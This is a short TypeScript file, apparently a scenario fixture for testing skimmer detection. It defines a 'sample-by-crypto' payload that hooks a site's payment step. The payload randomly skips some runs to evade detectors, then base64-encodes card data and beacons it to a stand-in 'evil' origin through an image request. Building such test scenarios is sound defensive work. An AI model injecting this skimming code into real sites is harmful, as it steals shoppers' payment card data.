import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'sample-by-crypto',
  why: "Draws lots from the platform's own generator, which no seed of a browser reaches; strikes three in four.",
  covers: ['trigger: sample', 'evade: detectors'],
  base: 'direct',
  rare: true,
  install: (site) =>
    site.append(
      onPay(js`
    if (crypto.getRandomValues(new Uint8Array(1))[0] >= 192) return;
    new Image().src = '${site.origins.evil}/v.gif?d=' + encodeURIComponent(btoa(card()));`),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
